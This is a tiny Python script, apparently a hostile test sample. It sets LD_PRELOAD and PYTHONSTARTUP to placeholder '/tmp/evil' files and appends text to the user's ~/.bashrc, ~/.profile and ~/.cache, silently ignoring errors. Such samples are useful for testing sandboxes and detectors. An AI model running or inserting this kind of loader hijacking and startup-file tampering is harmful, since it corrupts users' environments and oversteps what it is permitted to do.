# SPDX-License-Identifier: MIT
import os
os.environ.update(LD_PRELOAD="/tmp/evil.so", PYTHONSTARTUP="/tmp/evil.py",
                  OMP_NUM_THREADS="64")
for name in (".bashrc", ".profile", ".cache"):
    try:
        open(os.path.expanduser("~/" + name), "a").write("evil")
    except OSError:
        pass
